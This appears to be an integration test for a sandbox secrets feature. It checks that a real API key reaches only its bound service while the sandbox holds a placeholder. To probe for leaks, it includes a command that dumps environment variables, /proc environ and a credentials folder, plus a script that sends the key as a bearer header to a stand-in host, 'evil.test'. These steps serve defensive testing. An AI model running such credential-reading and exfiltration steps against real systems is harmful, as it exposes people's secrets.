/** Secrets through a real sandbox: the value outside, the phantom inside, by an opened TLS connection and by a base URL. */

import { once } from 'node:events';
import { readdir, readFile } from 'node:fs/promises';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { KnownValues } from '../../src/gate/credentials/known-values.ts';
import { PhantomRegistry } from '../../src/gate/credentials/phantoms.ts';
import { SandboxAuthority } from '../../src/gate/tls/sandbox-authority.ts';
import { upstreamTls } from '../../src/gate/tls/system-roots.ts';
import { fileVault, Secrets } from '../../src/store/secrets.ts';
import { testDns } from '../support/dns-server.ts';
import { testEngine } from '../support/engine.ts';
import { onDocker } from '../support/engine-under-test.ts';
import { temporaryFolder } from '../support/little-engine.ts';
import { openSandboxes, runInSandbox } from '../support/sandboxes.ts';

const real = 'sk-real-0123456789abcdef';

/** An HTTPS server of the test's own authority; answers with what it was asked, and remembers the header. */
async function service(host: string) {
  const authority = SandboxAuthority.create('the world', new Date());
  const seen: string[] = [];
  const server = createServer(
    { SNICallback: (name, done) => done(null, authority.contextFor(name)) },
    (request, answer) => {
      const sent = request.headers.authorization ?? 'none';
      seen.push(`${request.headers.host} ${sent}`);
      // What it was once given it says to everybody, in the spellings of an API.
      const kept = seen.join().includes(real) ? real : 'nothing';
      answer.setHeader('x-kept', Buffer.from(kept).toString('base64'));
      answer.writeEarlyHints({ link: `<${kept}>; rel=preload` });
      answer.end(`you sent ${sent}, before ${kept} ${encodeURIComponent(`/${kept}`)}`);
    },
  );
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.close();
    server.closeAllConnections();
  });
  return { host, port: (server.address() as AddressInfo).port, seen, root: authority.certificatePem };
}

const fetchByProxy = `
import os, ssl, sys, socket
host, port, header = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.create_connection(('127.0.0.1', 3128))
s.sendall(f'CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'.encode())
head = b''
while b'\\r\\n\\r\\n' not in head: head += s.recv(4096)
if b' 200 ' not in head.split(b'\\r\\n')[0]: sys.exit(head.decode())
c = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
t = c.wrap_socket(s, server_hostname=host)
t.sendall(f'GET /v1 HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n{header}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
out = b''
while True:
    d = t.recv(4096)
    if not d: break
    out += d
print(out.decode())
`;

/** Those of the words that a stream has anywhere. */
async function found(stream: AsyncIterable<Buffer>, words: readonly string[]): Promise<readonly string[]> {
  const seen = new Set<string>();
  let rest = Buffer.alloc(0);
  for await (const chunk of stream) {
    const bytes = Buffer.concat([rest, chunk]);
    for (const word of words) if (bytes.includes(word)) seen.add(word);
    rest = bytes.subarray(-100);
  }
  return [...seen];
}

/** Files below a folder that have the word in them. */
async function keptFiles(folder: string, word: string): Promise<readonly string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
  expect(files.length).toBeGreaterThan(0);
  const has = await Promise.all(files.map(async (file) => (await readFile(file)).includes(word)));
  return files.filter((_, at) => has[at]);
}

async function world() {
  const api = await service('api.test');
  const evil = await service('evil.test');
  const secrets = new Secrets(fileVault(`${temporaryFolder()}/secrets.json`), () => new Date());
  await secrets.set('ci', {
    binding: {
      hosts: ['api.test'],
      port: api.port,
      headers: ['authorization'],
      env: ['API_KEY'],
      prefix: 'sk-',
    },
    value: real,
  });
  const dns = await testDns({ 'api.test': ['127.0.0.1'], 'evil.test': ['127.0.0.1'] });
  const all = await openSandboxes({
    dnsServers: [dns.server],
    secrets: {
      source: secrets,
      registry: new PhantomRegistry(),
      values: new KnownValues(),
      upstreamTls: upstreamTls([api.root, evil.root]),
    },
  });
  return { api, evil, all };
}

describe('[R7] a secret of a sandbox', () => {
  it('reaches its service as the real value, while inside there is only a phantom, which nobody else gets', async () => {
    const { api, evil, all } = await world();
    const sandbox = await all.make({
      spec: {
        egress: {
          allow: [`evil.test:${evil.port}`, `127.0.0.1:${api.port}`, `127.0.0.1:${evil.port}`],
          credentials: ['ci'],
        },
      },
    });
    const python = (host: string, port: number) =>
      runInSandbox(sandbox, [
        'sh',
        '-c',
        'python3 -c "$0" "$@" "authorization: Bearer $API_KEY"',
        fetchByProxy,
        host,
        String(port),
      ]);
    const env = (
      await runInSandbox(sandbox, ['sh', '-c', 'env; cat /proc/*/environ; cat ~/.sallyport/* | head -c 1000'])
    ).stdout.data;
    expect(env).toMatch(/^API_KEY=\S{20,}$/m);
    expect(env).not.toContain(real);

    const answer = await python('api.test', api.port);
    expect(answer.stderr.data).toBe('');
    expect(answer.stdout.data).toContain('HTTP/1.1 200');
    // The server saw the value; the program that asked sees stars.
    expect(api.seen).toEqual([`api.test:${api.port} Bearer ${real}`]);
    expect(answer.stdout.data).not.toContain(real);

    // Nor does an answer to a request without the phantom have it.
    const later = await runInSandbox(sandbox, [
      'python3',
      '-c',
      fetchByProxy,
      'api.test',
      String(api.port),
      'accept: */*',
    ]);
    expect(later.stdout.data).toMatch(/you sent none, before \*{24} %2F\*{24}/);
    expect(later.stdout.data).toMatch(/link: <\*{24}>/i);
    expect(later.stdout.data).not.toContain(real);
    expect(later.stdout.data).not.toContain(Buffer.from(real).toString('base64'));
    expect(api.seen).toHaveLength(2);

    const stolen = await python('evil.test', evil.port);
    expect(`${stolen.stdout.data}${stolen.stderr.data}`).not.toContain('you sent');
    expect(evil.seen.join()).not.toContain(real);

    // Nor is it in what the engine knows of the sandbox, in what an image of it would have, or in what is kept of it.
    const id = sandbox.record.containerId ?? '';
    const { connection } = testEngine();
    if (onDocker) {
      const known = await connection.json<unknown>({ method: 'GET', path: `/containers/${id}/json` });
      expect(JSON.stringify(known)).toContain(id);
      expect(JSON.stringify(known)).not.toContain(real);
    }
    const phantom = /^API_KEY=(\S+)$/m.exec(env)?.[1] ?? '';
    const files = await sandbox.files();
    await files.write(`${sandbox.record.plan.user.home}/phantom`, Buffer.from(phantom));
    if (onDocker) {
      const image = await connection.stream({ method: 'GET', path: `/containers/${id}/export` });
      expect(await found(image, [phantom, real])).toEqual([phantom]);
    } else {
      // What the box wrote, and what was asked of the engine, is in the state folder.
      expect(await keptFiles(all.stateDir, phantom)).not.toEqual([]);
    }
    expect(await keptFiles(all.stateDir, real)).toEqual([]);
    expect((await runInSandbox(sandbox, ['sh', '-c', 'ulimit -c; ps -ef'])).stdout.data).toMatch(
      /^0\n(?!.*real)/s,
    );
  });

  it('that is not there is refused before anything is made', async () => {
    const { all } = await world();
    await expect(all.make({ spec: { egress: { credentials: ['nobody'] } } })).rejects.toMatchObject({
      code: 'secret_not_found',
    });
  });
});
